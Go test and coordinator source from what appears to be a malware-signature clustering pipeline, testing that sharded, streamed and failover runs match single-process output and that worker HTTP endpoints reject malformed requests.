func TestWorkerHandlerHTTP(t *testing.T) {
	w := NewWorker(WithWorkerCache(contentcache.New(1 << 20)))
	client := &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}

	post := func(body string) *http.Response {
		t.Helper()
		resp, err := client.Post("http://w.loopback/partition", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}

	if resp := post("{not json"); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed body: got %d, want 400", resp.StatusCode)
	}
	if resp := post(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2]],"weights":[1,2]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("mismatched weights: got %d, want 400", resp.StatusCode)
	}

	resp, err := client.Get("http://w.loopback/partition")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET /partition: got %d, want 405", resp.StatusCode)
	}

	hresp, err := client.Get("http://w.loopback/healthz")
	if err != nil {
		t.Fatal(err)
	}
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: got %d", hresp.StatusCode)
	}

	// A well-formed request round-trips and matches the local computation:
	// two identical short sequences cluster, the long outlier is noise.
	body, _ := json.Marshal(&PartitionRequest{
		Eps:    0.5,
		MinPts: 2,
		Partition: pipeline.ShardPartition{
			Seqs:    seqsOf("ab", "ab", "zzzzzz"),
			Weights: []int{1, 1, 1},
		},
	})
	resp2, err := client.Post("http://w.loopback/partition", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("valid request: got %d", resp2.StatusCode)
	}
	var pr PartitionResponse
	if err := json.NewDecoder(resp2.Body).Decode(&pr); err != nil {
		t.Fatal(err)
	}
	if len(pr.Clusters) != 1 || len(pr.Clusters[0]) != 2 || len(pr.Noise) != 1 {
		t.Fatalf("unexpected clustering: clusters=%v noise=%v", pr.Clusters, pr.Noise)
	}
}
