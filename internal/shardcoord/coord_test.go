package shardcoord

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
	"kizzle/internal/pipeline"
	"kizzle/internal/winnow"
)

// seqsOf turns byte strings into symbol sequences (one in-alphabet symbol
// per byte), enough structure for transport-level tests.
func seqsOf(texts ...string) [][]jstoken.Symbol {
	space := jstoken.Symbol(jstoken.SymbolSpace())
	out := make([][]jstoken.Symbol, len(texts))
	for i, s := range texts {
		seq := make([]jstoken.Symbol, len(s))
		for j := 0; j < len(s); j++ {
			seq[j] = jstoken.Symbol(s[j]) % space
		}
		out[i] = seq
	}
	return out
}

func dayInputs(t testing.TB, day, benign int) []pipeline.Input {
	t.Helper()
	scfg := ekit.DefaultStreamConfig()
	scfg.BenignPerDay = benign
	stream, err := ekit.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	samples := stream.Day(day)
	inputs := make([]pipeline.Input, len(samples))
	for i, s := range samples {
		inputs[i] = pipeline.Input{ID: s.ID, Content: s.Content}
	}
	return inputs
}

func seededCorpus(day int) *pipeline.Corpus {
	corpus := pipeline.NewCorpus(winnow.DefaultConfig(), 16)
	for _, fam := range ekit.Families {
		corpus.Add(fam.String(), ekit.Payload(fam, day-1))
	}
	return corpus
}

func stripTimings(r *pipeline.Result) {
	r.Stats.Tokenize, r.Stats.Cluster, r.Stats.Reduce = 0, 0, 0
	r.Stats.Label, r.Stats.Signature = 0, 0
	r.Stats.CacheHits, r.Stats.CacheMisses = 0, 0
}

// loopbackWorkers builds n in-process workers, optionally each with its
// own verdict cache.
func loopbackWorkers(n int, withCache bool) []*Worker {
	workers := make([]*Worker, n)
	for i := range workers {
		opts := []WorkerOption{WithWorkerParallelism(2)}
		if withCache {
			opts = append(opts, WithWorkerCache(contentcache.New(8<<20)))
		}
		workers[i] = NewWorker(opts...)
	}
	return workers
}

// TestShardedMatchesSingleProcess is the tentpole's differential test: the
// distributed pipeline must produce identical clusters and identical
// signatures to the single-process pipeline, at every shard count, with
// small partitions so the batch actually fans out across many requests.
func TestShardedMatchesSingleProcess(t *testing.T) {
	day := ekit.Date(8, 6)
	inputs := dayInputs(t, day, 120)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8 // force many partitions per batch

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for _, shards := range []int{1, 2, 4} {
		for _, withCache := range []bool{false, true} {
			name := fmt.Sprintf("shards=%d,cache=%v", shards, withCache)
			t.Run(name, func(t *testing.T) {
				workers := loopbackWorkers(shards, withCache)
				scfg := cfg
				scfg.Clusterer = NewCoordinator(NewLoopback(workers))
				// Two runs per setup: the second exercises warm worker
				// verdict caches, which must not change anything either.
				for run := 0; run < 2; run++ {
					got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
					if err != nil {
						t.Fatal(err)
					}
					stripTimings(&got)
					if !reflect.DeepEqual(ref.Clusters, got.Clusters) {
						t.Fatalf("run %d: sharded clusters diverge from single-process", run)
					}
					if !reflect.DeepEqual(ref.Signatures, got.Signatures) {
						t.Fatalf("run %d: sharded signatures diverge from single-process", run)
					}
					if got.Stats.Partitions < shards {
						t.Fatalf("run %d: only %d partitions for %d shards — batch too small to distribute",
							run, got.Stats.Partitions, shards)
					}
				}
			})
		}
	}
}

// TestShardedBatchMatchesStream pins dispatch-mode identity through the
// coordinator: protocol-v1 batch dispatch, streamed v2 dispatch, and
// coordinator-side pre-reduce must all produce the single-process output.
func TestShardedBatchMatchesStream(t *testing.T) {
	day := ekit.Date(8, 9)
	inputs := dayInputs(t, day, 90)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 8

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for _, mode := range []struct {
		name   string
		mutate func(*pipeline.Config)
	}{
		{"batch", func(c *pipeline.Config) { c.BatchDispatch = true }},
		{"stream", func(c *pipeline.Config) {}},
		{"coordinatorPreReduce", func(c *pipeline.Config) { c.DisableShardPreReduce = true }},
	} {
		t.Run(mode.name, func(t *testing.T) {
			scfg := cfg
			scfg.Clusterer = NewCoordinator(NewLoopback(loopbackWorkers(3, true)))
			mode.mutate(&scfg)
			got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
			if err != nil {
				t.Fatal(err)
			}
			stripTimings(&got)
			if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
				t.Fatal("dispatch mode diverged from single-process output")
			}
			if mode.name == "stream" && got.Stats.EdgeJobs == 0 {
				t.Fatal("streamed run dispatched no edge jobs")
			}
		})
	}
}

// delayTransport perturbs scheduling: every request sleeps a
// pseudo-random (seed-dependent) amount before executing, so work lands
// on different shards in a different order on every seed.
type delayTransport struct {
	inner Transport
	seed  uint64
	calls atomic.Int64
}

func (d *delayTransport) Shards() int { return d.inner.Shards() }

func (d *delayTransport) delay() {
	n := uint64(d.calls.Add(1))
	h := (n*2654435761 + d.seed) % 4
	time.Sleep(time.Duration(h) * time.Millisecond)
}

func (d *delayTransport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	d.delay()
	return d.inner.Partition(ctx, shard, req)
}

func (d *delayTransport) Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error) {
	d.delay()
	return d.inner.Edges(ctx, shard, req)
}

// TestHierarchicalReduceOrderInvariant is the tentpole's property test:
// shuffling which shard handles which unit and in which order results
// return must never change the final clusters — the hierarchical merge is
// a pure function of the partition summaries, which are themselves pure
// functions of the partitions.
func TestHierarchicalReduceOrderInvariant(t *testing.T) {
	day := ekit.Date(8, 10)
	inputs := dayInputs(t, day, 70)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 6

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	for seed := uint64(1); seed <= 3; seed++ {
		scfg := cfg
		scfg.Clusterer = NewCoordinator(&delayTransport{
			inner: NewLoopback(loopbackWorkers(3, true)),
			seed:  seed,
		})
		got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
		if err != nil {
			t.Fatal(err)
		}
		stripTimings(&got)
		if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
			t.Fatalf("seed %d: scheduling perturbation changed pipeline output", seed)
		}
	}
}

// dyingTransport lets a shard answer successfully a fixed number of times
// and then fail forever — a worker dying mid-stream.
type dyingTransport struct {
	inner     Transport
	dieShard  int
	surviving int
	mu        sync.Mutex
	answered  int
	failed    int
}

func (d *dyingTransport) Shards() int { return d.inner.Shards() }

func (d *dyingTransport) dead(shard int) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	if shard != d.dieShard {
		return false
	}
	if d.answered >= d.surviving {
		d.failed++
		return true
	}
	d.answered++
	return false
}

func (d *dyingTransport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	if d.dead(shard) {
		return nil, fmt.Errorf("shard %d died mid-stream", shard)
	}
	return d.inner.Partition(ctx, shard, req)
}

func (d *dyingTransport) Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error) {
	if d.dead(shard) {
		return nil, fmt.Errorf("shard %d died mid-stream", shard)
	}
	return d.inner.Edges(ctx, shard, req)
}

// TestStreamFailoverMidStream kills one shard after its first few answers
// of a streamed run. Its pending work must be re-dispatched to survivors
// with no duplicate or lost clusters — output identical to single-process.
func TestStreamFailoverMidStream(t *testing.T) {
	day := ekit.Date(8, 11)
	inputs := dayInputs(t, day, 80)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 6

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	dying := &dyingTransport{
		inner:     NewLoopback(loopbackWorkers(2, false)),
		dieShard:  0,
		surviving: 3, // shard 0 answers three units, then dies
	}
	scfg := cfg
	scfg.Clusterer = NewCoordinator(dying)
	got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
	if err != nil {
		t.Fatalf("stream failed despite a surviving shard: %v", err)
	}
	stripTimings(&got)
	if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
		t.Fatal("mid-stream failover changed pipeline output")
	}
	if dying.failed == 0 {
		t.Fatal("dead shard was never exercised after dying")
	}

	// Every shard dead: the streamed batch must fail, not hang.
	scfg.Clusterer = NewCoordinator(&flakyTransport{
		inner:     NewLoopback(loopbackWorkers(1, false)),
		deadShard: -1,
		shards:    2,
	})
	if _, err := pipeline.Process(inputs, seededCorpus(day), scfg); err == nil {
		t.Fatal("streamed batch succeeded with no live shards")
	}
}

// TestCoordinatorFailover kills one shard and expects the batch to
// complete through retries on the surviving shard, with unchanged output.
func TestCoordinatorFailover(t *testing.T) {
	day := ekit.Date(8, 7)
	inputs := dayInputs(t, day, 60)
	cfg := pipeline.DefaultConfig()
	cfg.PartitionSize = 30

	ref, err := pipeline.Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&ref)

	// Sequential dispatch makes the dead shard's involvement
	// deterministic: under the concurrent shared queue the live shard can
	// drain every partition before the dead one is ever asked.
	healthy := NewLoopback(loopbackWorkers(1, false))
	flaky := &flakyTransport{inner: healthy, deadShard: 0, shards: 2}
	scfg := cfg
	scfg.Clusterer = NewCoordinator(flaky, WithSequentialDispatch())
	got, err := pipeline.Process(inputs, seededCorpus(day), scfg)
	if err != nil {
		t.Fatalf("batch failed despite a surviving shard: %v", err)
	}
	stripTimings(&got)
	if !reflect.DeepEqual(ref.Clusters, got.Clusters) || !reflect.DeepEqual(ref.Signatures, got.Signatures) {
		t.Fatal("failover changed pipeline output")
	}
	if flaky.failed == 0 {
		t.Fatal("dead shard was never exercised")
	}

	// With every shard dead the batch must fail, not hang or fabricate —
	// via both dispatch modes.
	allDead := &flakyTransport{inner: healthy, deadShard: -1, shards: 2}
	scfg.Clusterer = NewCoordinator(allDead)
	if _, err := pipeline.Process(inputs, seededCorpus(day), scfg); err == nil {
		t.Fatal("batch succeeded with no live shards (concurrent dispatch)")
	}
	scfg.Clusterer = NewCoordinator(allDead, WithSequentialDispatch())
	if _, err := pipeline.Process(inputs, seededCorpus(day), scfg); err == nil {
		t.Fatal("batch succeeded with no live shards")
	}
}

// flakyTransport reports `shards` shards but fails requests to deadShard
// (-1 = all dead), routing the rest to a single healthy inner worker.
type flakyTransport struct {
	inner     Transport
	shards    int
	deadShard int
	failed    int
}

func (f *flakyTransport) Shards() int { return f.shards }

func (f *flakyTransport) Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	if shard == f.deadShard || f.deadShard == -1 {
		f.failed++
		return nil, fmt.Errorf("shard %d is down", shard)
	}
	return f.inner.Partition(ctx, 0, req)
}

func (f *flakyTransport) Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error) {
	if shard == f.deadShard || f.deadShard == -1 {
		f.failed++
		return nil, fmt.Errorf("shard %d is down", shard)
	}
	return f.inner.Edges(ctx, 0, req)
}

// TestWorkerHandlerHTTP exercises the worker's HTTP surface through the
// loopback round trip: malformed bodies, wrong methods, mismatched
// lengths, and health checks.
func TestWorkerHandlerHTTP(t *testing.T) {
	w := NewWorker(WithWorkerCache(contentcache.New(1 << 20)))
	client := &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}

	post := func(body string) *http.Response {
		t.Helper()
		resp, err := client.Post("http://w.loopback/partition", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}

	if resp := post("{not json"); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed body: got %d, want 400", resp.StatusCode)
	}
	if resp := post(`{"eps":0.1,"minPts":2,"partition":{"seqs":[[1,2]],"weights":[1,2]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("mismatched weights: got %d, want 400", resp.StatusCode)
	}

	resp, err := client.Get("http://w.loopback/partition")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET /partition: got %d, want 405", resp.StatusCode)
	}

	hresp, err := client.Get("http://w.loopback/healthz")
	if err != nil {
		t.Fatal(err)
	}
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: got %d", hresp.StatusCode)
	}

	// A well-formed request round-trips and matches the local computation:
	// two identical short sequences cluster, the long outlier is noise.
	body, _ := json.Marshal(&PartitionRequest{
		Eps:    0.5,
		MinPts: 2,
		Partition: pipeline.ShardPartition{
			Seqs:    seqsOf("ab", "ab", "zzzzzz"),
			Weights: []int{1, 1, 1},
		},
	})
	resp2, err := client.Post("http://w.loopback/partition", "application/json", strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("valid request: got %d", resp2.StatusCode)
	}
	var pr PartitionResponse
	if err := json.NewDecoder(resp2.Body).Decode(&pr); err != nil {
		t.Fatal(err)
	}
	if len(pr.Clusters) != 1 || len(pr.Clusters[0]) != 2 || len(pr.Noise) != 1 {
		t.Fatalf("unexpected clustering: clusters=%v noise=%v", pr.Clusters, pr.Noise)
	}
	if pr.Reduced != nil {
		t.Fatal("v1 request (no preReduce) answered with a summary")
	}

	// Protocol v2: preReduce returns the compacted summary alongside.
	body2, _ := json.Marshal(&PartitionRequest{
		Eps:    0.5,
		MinPts: 2,
		Partition: pipeline.ShardPartition{
			Seqs:    seqsOf("ab", "ab", "zzzzzz"),
			Weights: []int{1, 1, 1},
		},
		PreReduce: true,
	})
	resp3, err := client.Post("http://w.loopback/partition", "application/json", strings.NewReader(string(body2)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp3.Body.Close()
	var pr2 PartitionResponse
	if err := json.NewDecoder(resp3.Body).Decode(&pr2); err != nil {
		t.Fatal(err)
	}
	if pr2.Reduced == nil || len(pr2.Reduced.Clusters) != 1 || len(pr2.Reduced.Reps) != 1 {
		t.Fatalf("v2 request returned summary %+v", pr2.Reduced)
	}
}

// TestWorkerEdgesHTTP exercises the protocol-v2 /edges surface: valid
// sweeps round-trip, malformed and out-of-alphabet jobs are rejected.
func TestWorkerEdgesHTTP(t *testing.T) {
	w := NewWorker(WithWorkerCache(contentcache.New(1 << 20)))
	client := &http.Client{Transport: handlerRoundTripper{
		handlers: map[string]http.Handler{"w.loopback": w.Handler()},
	}}
	post := func(body string) (*http.Response, string) {
		t.Helper()
		resp, err := client.Post("http://w.loopback/edges", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		var out EdgeResponse
		dec := json.NewDecoder(resp.Body)
		msg := ""
		if resp.StatusCode == http.StatusOK {
			if err := dec.Decode(&out); err != nil {
				t.Fatal(err)
			}
			b, _ := json.Marshal(out.Pairs)
			msg = string(b)
		}
		resp.Body.Close()
		return resp, msg
	}

	// Valid triangular job over three sequences, two of them identical.
	job := EdgeRequest{Job: pipeline.EdgeJob{
		Eps:  0.5,
		Seqs: pipeline.PackedSeqs(seqsOf("abcd", "abcd", "zzzzzzzzzzzz")),
		Rows: []int{0, 1, 2},
	}}
	body, _ := json.Marshal(&job)
	resp, pairs := post(string(body))
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("valid edge job: got %d", resp.StatusCode)
	}
	if pairs != "[[0,1]]" {
		t.Fatalf("edge pairs = %s, want [[0,1]]", pairs)
	}

	if resp, _ := post("{not json"); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("malformed body: got %d, want 400", resp.StatusCode)
	}
	if resp, _ := post(`{"job":{"eps":0.5,"seqs":["QUJD"],"rows":[0]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("odd packed length: got %d, want 400", resp.StatusCode)
	}
	if resp, _ := post(`{"job":{"eps":0.5,"seqs":[],"rows":[3]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("row out of range: got %d, want 400", resp.StatusCode)
	}
	// eps >= 1 saturates (everything matches) like every other pipeline
	// path; only non-positive eps is invalid.
	if resp, _ := post(`{"job":{"eps":-0.5,"seqs":[],"rows":[]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad eps: got %d, want 400", resp.StatusCode)
	}
	// Out-of-alphabet symbol (0xFFFF packed little-endian).
	if resp, _ := post(`{"job":{"eps":0.5,"seqs":["//8="],"rows":[0]}}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("out-of-alphabet symbol: got %d, want 400", resp.StatusCode)
	}

	hresp, err := client.Get("http://w.loopback/edges")
	if err != nil {
		t.Fatal(err)
	}
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET /edges: got %d, want 405", hresp.StatusCode)
	}
}
