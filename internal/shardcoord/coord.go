package shardcoord

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"kizzle/internal/pipeline"
)

// Transport delivers one partition request to one shard. Implementations
// must be safe for concurrent use across shards.
type Transport interface {
	// Shards reports how many shard workers are reachable.
	Shards() int
	// Partition executes req on the given shard (0 ≤ shard < Shards).
	Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error)
}

// Coordinator implements pipeline.Clusterer over a Transport: shards pull
// clustering partitions from a shared queue (one partition in flight per
// shard — an idle machine immediately takes the next unit, so skewed
// partition costs still balance), and results are reassembled in
// partition order so the pipeline's downstream stages see exactly what
// the in-process path would have produced.
type Coordinator struct {
	transport Transport
	// retries is how many times a failed partition is retried on the
	// next shard (round-robin) before the batch fails.
	retries int
	// sequential processes shard queues one after another (profiling
	// mode) instead of concurrently.
	sequential bool
}

// CoordinatorOption configures a Coordinator.
type CoordinatorOption func(*Coordinator)

// WithRetries sets how many alternative shards a failed partition request
// is retried on before the whole batch errors (default 1: one failover).
func WithRetries(n int) CoordinatorOption {
	return func(c *Coordinator) { c.retries = n }
}

// WithSequentialDispatch dispatches one partition at a time, assigning
// each to the shard with the least accumulated busy time — a faithful
// serial simulation of the concurrent shared-queue schedule (a worker
// pulls the next unit the moment it goes idle). This is a profiling mode:
// per-shard busy times measured under sequential dispatch are undistorted
// by CPU time-slicing among loopback workers, which is how
// BenchmarkPipelineSharded computes the distributed critical path — the
// wall-clock an N-machine fleet would see — on a host with fewer cores
// than shards.
func WithSequentialDispatch() CoordinatorOption {
	return func(c *Coordinator) { c.sequential = true }
}

// NewCoordinator builds a coordinator over a transport.
func NewCoordinator(t Transport, opts ...CoordinatorOption) *Coordinator {
	c := &Coordinator{transport: t, retries: 1}
	for _, opt := range opts {
		opt(c)
	}
	return c
}

// ClusterPartitions dispatches every partition and collects the results,
// ordered by partition index. The first unrecoverable failure cancels the
// remaining work.
func (c *Coordinator) ClusterPartitions(parts []pipeline.ShardPartition, cfg pipeline.Config) ([]pipeline.ShardClusters, error) {
	shards := c.transport.Shards()
	if shards < 1 {
		return nil, fmt.Errorf("shardcoord: transport has no shards")
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	results := make([]pipeline.ShardClusters, len(parts))
	// The root cause is the FIRST recorded error: once it cancels ctx,
	// the other shards' in-flight requests fail with context.Canceled,
	// which must not mask it.
	var errOnce sync.Once
	var firstErr error
	one := func(shard, pi int) bool {
		req := &PartitionRequest{Eps: cfg.Eps, MinPts: cfg.MinPts, Partition: parts[pi]}
		resp, err := c.dispatch(ctx, shard, req)
		if err != nil {
			errOnce.Do(func() {
				firstErr = fmt.Errorf("partition %d on shard %d: %w", pi, shard, err)
				cancel()
			})
			return false
		}
		results[pi] = resp.ShardClusters
		return true
	}
	if c.sequential {
		// Serial simulation of the shared-queue schedule: each partition
		// goes to the shard that would be idle first.
		busy := make([]time.Duration, shards)
		for pi := range parts {
			if ctx.Err() != nil {
				break
			}
			shard := 0
			for s := 1; s < shards; s++ {
				if busy[s] < busy[shard] {
					shard = s
				}
			}
			start := time.Now()
			if !one(shard, pi) {
				break
			}
			busy[shard] += time.Since(start)
		}
	} else {
		// Shared queue: each shard pulls the next partition the moment it
		// finishes its current one, so skewed partition costs balance.
		var next atomic.Int64
		var wg sync.WaitGroup
		for s := 0; s < shards; s++ {
			wg.Add(1)
			go func(shard int) {
				defer wg.Done()
				for {
					pi := int(next.Add(1)) - 1
					if pi >= len(parts) || ctx.Err() != nil {
						return
					}
					if !one(shard, pi) {
						return
					}
				}
			}(s)
		}
		wg.Wait()
	}
	if firstErr != nil {
		return nil, fmt.Errorf("shardcoord: %w", firstErr)
	}
	return results, nil
}

// dispatch sends one request, failing over to subsequent shards up to the
// retry budget. A dead worker therefore slows the batch rather than
// killing it.
func (c *Coordinator) dispatch(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error) {
	shards := c.transport.Shards()
	var lastErr error
	for attempt := 0; attempt <= c.retries; attempt++ {
		if ctx.Err() != nil {
			return nil, ctx.Err()
		}
		resp, err := c.transport.Partition(ctx, (shard+attempt)%shards, req)
		if err == nil {
			return resp, nil
		}
		lastErr = err
	}
	return nil, lastErr
}
