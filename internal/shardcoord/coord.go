package shardcoord

import (
	"context"
	"errors"
	"fmt"
	"math/bits"
	"sync"
	"sync/atomic"
	"time"

	"kizzle/internal/pipeline"
)

// Transport delivers work to one shard. Implementations must be safe for
// concurrent use across shards.
type Transport interface {
	// Shards reports how many shard workers are reachable.
	Shards() int
	// Partition executes req on the given shard (0 ≤ shard < Shards).
	Partition(ctx context.Context, shard int, req *PartitionRequest) (*PartitionResponse, error)
	// Edges executes a distance-sweep job on the given shard. A transport
	// talking to a worker that predates protocol v2 returns ErrUnsupported,
	// which makes the coordinator run the job itself.
	Edges(ctx context.Context, shard int, req *EdgeRequest) (*EdgeResponse, error)
}

// TransportV3 is the optional digest-first edge capability (protocol v3).
// A transport that implements it lets the coordinator ship content keys
// instead of sequence bytes on the edge path; ErrUnsupported from EdgesV3
// means the worker lacks the endpoint and the job repeats over plain
// Edges. Transports that don't implement the interface at all simply
// never see v3 traffic — the Transport interface itself is unchanged.
type TransportV3 interface {
	EdgesV3(ctx context.Context, shard int, req *EdgeRequestV3) (*EdgeResponseV3, error)
}

// ErrUnsupported reports that a shard worker does not implement the
// requested protocol-v2 operation (an old binary). The coordinator treats
// it as a capability miss — the work runs coordinator-side — rather than
// a shard failure.
var ErrUnsupported = errors.New("shardcoord: operation not supported by worker")

// Coordinator implements pipeline.Clusterer and pipeline.StreamClusterer
// over a Transport: shards pull work units from a shared queue (one unit
// in flight per shard — an idle machine immediately takes the next unit,
// so skewed costs still balance). In streaming mode units are consumed as
// the pipeline emits them — partitions while the host is still
// deduplicating, then the reduce step's edge sweeps — and results are
// matched back by sequence number, so arrival order never affects output.
type Coordinator struct {
	transport Transport
	// retries is how many times a failed unit is retried on the next
	// shard (round-robin) before the batch fails.
	retries int
	// sequential processes units one after another (profiling mode)
	// instead of concurrently.
	sequential bool

	// v3 is the transport's digest-first capability, nil when the
	// transport doesn't implement it. noAffinity disables the whole
	// locality layer (routing, placement, v3 wire) even when available.
	v3         TransportV3
	noAffinity bool
	// schedSeed/shardPerm implement the seeded schedule permutation: the
	// pull queue's shard choice is relabeled through a fixed seeded
	// permutation, so a certification verifier's run schedules work onto
	// different machines than the canonical run. Results are matched back
	// by sequence number, so the relabeling cannot change output.
	schedSeed int64
	shardPerm []int
	// resident maps each sequence key to a bitmask of shards believed to
	// hold it (bit s = shard s; shards ≥64 are never tracked). "Believed"
	// because workers evict and die — the v3 protocol's refill round
	// corrects stale entries, and invalidateShard drops a shard's bits
	// after a dispatch failure.
	affMu    sync.Mutex
	resident map[pipeline.SeqKey]uint64
	// v3cap caches each shard's answer to the /edges3 capability dance so
	// an old worker is asked exactly once per coordinator.
	v3cap []atomic.Int32

	schedMu    sync.Mutex
	schedTotal ScheduleStats
}

// v3cap states.
const (
	capUnknown int32 = iota
	capYes
	capNo
)

// ScheduleStats accumulates the simulated fleet schedule measured under
// sequential dispatch (see WithSequentialDispatch): per-shard busy time,
// and the modeled makespan — when the last work unit would have finished
// on a real fleet, given each unit's measured cost, its host-side
// availability time, and a barrier before each reduce wave. Divide by
// Runs for per-batch numbers.
type ScheduleStats struct {
	// Busy is accumulated execution time per shard.
	Busy []time.Duration
	// Makespan models the fleet's clustering+reduce critical path: work
	// units start no earlier than the host emitted them, each shard runs
	// one unit at a time, and each reduce wave starts only after the
	// previous wave completed.
	Makespan time.Duration
	// PartitionUnits and EdgeUnits count executed work units.
	PartitionUnits int
	EdgeUnits      int
	// Runs counts completed streams folded into the totals.
	Runs int
}

// CoordinatorOption configures a Coordinator.
type CoordinatorOption func(*Coordinator)

// WithRetries sets how many alternative shards a failed work unit is
// retried on before the whole batch errors (default 1: one failover).
func WithRetries(n int) CoordinatorOption {
	return func(c *Coordinator) { c.retries = n }
}

// WithoutAffinity disables locality-aware edge routing and the v3
// digest-first wire, even on a transport that supports them: every edge
// job ships its sequences inline over protocol v2 and is scheduled purely
// by the pull queue. This is the differential-testing lever (affinity on
// and off must produce identical clusters) and the escape hatch if a
// fleet's resident sets misbehave.
func WithoutAffinity() CoordinatorOption {
	return func(c *Coordinator) { c.noAffinity = true }
}

// WithSchedulePermutation relabels every pull-queue shard choice through
// a seeded deterministic permutation (0 keeps the canonical schedule).
// This is a diversity lever for dual-path certification: the verify run
// lands work units on different shards than the primary run while the
// sequence-number result matching keeps the output bit-identical — so a
// worker that misbehaves only for particular units cannot corrupt both
// paths the same way.
func WithSchedulePermutation(seed int64) CoordinatorOption {
	return func(c *Coordinator) { c.schedSeed = seed }
}

// WithSequentialDispatch dispatches one work unit at a time, assigning
// each to the shard that would be idle first in a simulated fleet
// schedule (arrival-aware: a unit never starts before the host emitted
// it). This is a profiling mode: per-shard busy times and the modeled
// makespan measured under sequential dispatch are undistorted by CPU
// time-slicing among loopback workers, which is how
// BenchmarkPipelineSharded computes the distributed critical path — the
// wall-clock an N-machine fleet would see — on a host with fewer cores
// than shards. Results are identical to concurrent dispatch.
func WithSequentialDispatch() CoordinatorOption {
	return func(c *Coordinator) { c.sequential = true }
}

// NewCoordinator builds a coordinator over a transport.
func NewCoordinator(t Transport, opts ...CoordinatorOption) *Coordinator {
	c := &Coordinator{transport: t, retries: 1}
	for _, opt := range opts {
		opt(c)
	}
	c.v3, _ = t.(TransportV3)
	if c.v3 != nil && !c.noAffinity {
		c.resident = make(map[pipeline.SeqKey]uint64)
		c.v3cap = make([]atomic.Int32, t.Shards())
	}
	if c.schedSeed != 0 && t.Shards() > 1 {
		c.shardPerm = pipeline.SeededPerm(t.Shards(), uint64(c.schedSeed))
	}
	return c
}

// PathDescriptor summarizes a coordinator's scheduling configuration for
// provenance records (sigdb attestations carry one per compile path).
type PathDescriptor struct {
	Shards   int   `json:"shards"`
	Affinity bool  `json:"affinity"`
	Seed     int64 `json:"seed"`
}

// Describe reports the coordinator's path descriptor: fleet size,
// whether the locality layer is active, and the schedule-permutation
// seed (0 = canonical schedule).
func (c *Coordinator) Describe() PathDescriptor {
	return PathDescriptor{Shards: c.transport.Shards(), Affinity: c.affinityOn(), Seed: c.schedSeed}
}

